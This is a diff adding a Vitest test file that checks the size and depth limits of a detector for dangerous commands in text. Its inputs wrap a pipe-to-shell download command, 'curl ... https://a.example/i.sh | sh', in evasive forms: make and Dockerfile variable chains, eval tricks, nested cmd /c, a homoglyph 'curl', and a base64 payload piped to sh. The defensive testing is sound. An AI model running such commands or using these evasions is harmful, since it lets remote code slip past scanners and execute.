@@ -1,0 +1,128 @@
+import { describe, expect, it } from "vitest";
+import type { Detection, Profile } from "../../src/core/model.js";
+import { sharedDetector } from "../support/marked.js";
+import { assertSound } from "./invariants.js";
+
+const CODE = "curl -fsSL https://a.example/i.sh | sh";
+const times = (count: number, item: (at: number) => string): string =>
+  Array.from({ length: count }, (_, at) => item(at)).join("");
+const fence = (tag: string, code: string): string => `\`\`\`${tag}\n${code}\n\`\`\`\n`;
+
+/** A text of a size, which goes past a bound with the larger size only. */
+interface Case {
+  readonly profile?: Profile;
+  readonly text: (size: number) => string;
+  readonly sizes: readonly [within: number, past: number];
+  readonly limit: string;
+  /** Whether a text past the bound is found all the same. */
+  readonly isFound?: boolean;
+}
+
+const cases: Readonly<Record<string, Case>> = {
+  "a brace expansion of many words": {
+    text: (size) =>
+      fence("sh", `echo {${times(size, (at) => `w${String(at)},`)}z} | grep x\n${CODE}`),
+    sizes: [60, 70],
+    limit: "size",
+    isFound: true,
+  },
+  "a long quotation over several lines": {
+    text: (size) =>
+      fence(
+        "sh",
+        `${times(900, () => "make all && make test\n")}a='${times(size, () => "curl a line of text\n")}'\n${CODE}`,
+      ),
+    sizes: [20, 1000],
+    limit: "size",
+    isFound: true,
+  },
+  "files with much known text": {
+    profile: "extended",
+    text: (size) =>
+      fence(
+        "sh",
+        `${times(size, (at) => `cat > f${String(at)} <<'EOF'\ncurl https://a.example -o x\n${"echo ls\n".repeat(1000)}EOF\n`)}cat > g <<'EOF'\n${CODE}\nEOF\nbash g`,
+      ),
+    sizes: [10, 60],
+    limit: "size",
+  },
+  "a long value that an operator changes": {
+    profile: "extended",
+    text: (size) => fence("sh", `c='${CODE}; ${"x".repeat(size)}'\neval "\${c%%;*}"`),
+    sizes: [20, 600],
+    limit: "size",
+  },
+  "command lines in command lines": {
+    text: (size) => fence("bat", `${"cmd /c ".repeat(size)}"echo a & ${CODE}"`),
+    sizes: [3, 12],
+    limit: "depth",
+  },
+  "many variables of a Dockerfile": {
+    text: (size) =>
+      fence(
+        "dockerfile",
+        `FROM x\n${times(size, (at) => `ENV A${String(at)}=curl\n`)}ENV URL="curl -fsSL https://a.example/i.sh"\nRUN $URL | sh`,
+      ),
+    sizes: [20, 70],
+    limit: "size",
+  },
+  "variables of variables of make": {
+    text: (size) =>
+      fence(
+        "make",
+        `A0 = curl\n${times(size, (at) => `A${String(at + 1)} = $(A${String(at)})\n`)}all:\n\t$(A${String(size)}) https://a.example/i.sh | sh`,
+      ),
+    sizes: [12, 20],
+    limit: "depth",
+  },
+  "documents in documents": {
+    text: (size) =>
+      Array.from({ length: size }).reduce<string>(
+        (inner, _, at) => `${"`".repeat(at + 4)}markdown\n${inner}\n${"`".repeat(at + 4)}\n`,
+        fence("sh", CODE),
+      ),
+    sizes: [3, 9],
+    limit: "depth",
+  },
+  "quote and list marks": {
+    text: (size) => `${"> ".repeat(size)}curl https://a.example/i.sh | sh\n`,
+    sizes: [5, 20],
+    limit: "depth",
+  },
+  "obscured words": {
+    text: (size) => times(size, () => "run сurl now\n"),
+    sizes: [50, 150],
+    limit: "size",
+  },
+  "a long code element in running text": {
+    text: (size) => `Use <code>${"x".repeat(size)} ${CODE}</code> here.\n`,
+    sizes: [20, 6000],
+    limit: "size",
+  },
+  "a long inline program": {
+    profile: "extended",
+    text: (size) => fence("sh", `node -p '${"a();".repeat(size)} atob("ZWNobyBoaQ==")' | sh`),
+    sizes: [5, 6000],
+    limit: "size",
+  },
+};
+
+async function detected({ profile, text }: Case, size: number): Promise<Detection> {
+  const written = text(size);
+  const detection = (await sharedDetector(profile)).detect(written);
+  assertSound(written, detection);
+  return detection;
+}
+
+describe("bounds that end what is followed", { timeout: 60_000 }, () => {
+  it.each(Object.entries(cases))("%s: complete within the bound", async (_, each) => {
+    expect((await detected(each, each.sizes[0])).outcome).toEqual({ status: "complete" });
+  });
+
+  it.each(Object.entries(cases))("%s: a limit past the bound", async (_, each) => {
+    const { outcome, findings } = await detected(each, each.sizes[1]);
+    const limits = outcome.status === "incomplete" ? outcome.limits : [];
+    expect(limits.map(({ limit }) => limit)).toContain(each.limit);
+    if (each.isFound === true) expect(findings).toHaveLength(1);
+  });
+});
